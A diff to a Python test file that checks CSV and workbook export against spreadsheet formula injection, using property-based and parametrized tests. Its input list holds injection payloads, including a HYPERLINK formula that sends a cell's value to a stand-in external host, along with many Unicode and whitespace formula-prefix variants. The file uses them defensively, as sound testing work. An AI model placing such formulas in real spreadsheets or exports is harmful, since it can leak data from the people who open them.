@@ -3,8 +3,10 @@
 import csv
 import io
 import os
+import re
 import tempfile
 import tracemalloc
+import unicodedata
 import zipfile
 from collections.abc import AsyncIterator
 from datetime import datetime
@@ -13,13 +15,21 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from python_calamine import CalamineWorkbook
 
 from kit import tables
-from kit.tables import Blocks, Cell, Rows, Sheet, csv_file, csv_text, one_block, xlsx_file
+from kit.csv_text import Cell, Rows, csv_text, harmless
+from kit.tables import Blocks, Sheet, csv_file, one_block, xlsx_file
 
 HEADER = ("number", "amount")
-FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A"]
+FORMULAS = [
+    *("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx"),
+    *("＝1", "＋1", "－1", "＠A", "﹦1", "﹢1", "﹣1", "﹫A", "\u22121"),
+    *(" =1", "\u3000＝1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", "\u202e=1", "\u0301=1"),
+    '=HYPERLINK("https://x.example/?"&A1,"x")',
+]
 LOOKS_LIKE_NUMBERS = ["000123", "65400000131234567890", "1e5", "0x1F"]
 EVERY_ALPHABET = ["伊犁", "ئىلى", "Іле", "𠮷", "😀", "é", "\ufeffW"]
 A_TIME = datetime(2028, 2, 29, 23, 59, 1)  # noqa: DTZ001 - cells know no zone
@@ -63,8 +73,31 @@ async def test_text_in_a_csv_file_does_not_run(text: str) -> None:
 
 
 @pytest.mark.parametrize("text", FORMULAS)
-def test_a_program_reads_text_as_it_is(text: str) -> None:
-    assert list(csv.reader(io.StringIO(csv_text([[text]]), newline=""))) == [[text]]
+def test_nor_does_it_in_a_header_or_in_a_file_for_programs(text: str) -> None:
+    assert list(csv.reader(io.StringIO(csv_text([[text]]), newline=""))) == [[f"'{text}"]]
+
+
+ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
+BEGINNINGS = st.text(st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫\u2212 \u3000\t\r\n\u200b\ufeff'"), max_size=4)
+
+
+@given(st.builds(str.__add__, BEGINNINGS, ANY_TEXT))
+def test_no_text_is_lost_and_none_begins_like_a_formula(text: str) -> None:
+    ((read_back, _),) = csv.reader(io.StringIO(csv_text([[text, "x"]]), newline=""))
+    assert read_back in {text, f"'{text}"}
+    seen = "".join(char for char in read_back if unicodedata.category(char)[0] not in "CMZ")
+    assert unicodedata.normalize("NFKC", seen[:1])[:1] not in {*"=+-@\u2212"}
+    assert not read_back.startswith(("\t", "\r", "\n"))
+    assert (read_back == text) == (harmless(text) == text)
+
+
+def test_nothing_else_writes_tables() -> None:
+    root = Path(__file__).parents[2]
+    writers = re.compile(r"csv\.(?:Dict)?[wW]riter\(|import xlsxwriter|from xlsxwriter")
+    rooms = ("chassis", "kit", "gateway", "svc_identity", "svc_services", "svc_payments", "svc_miniapps", "deploy")
+    files = [file for room in rooms for file in (root / room).rglob("*.py") if writers.search(file.read_text("utf-8"))]
+    assert {file.name for file in files} == {"csv_text.py", "tables.py"}
+    assert {file.parent for file in files} == {root / "kit"}
 
 
 async def test_text_in_a_workbook_is_neither_formula_nor_link() -> None:
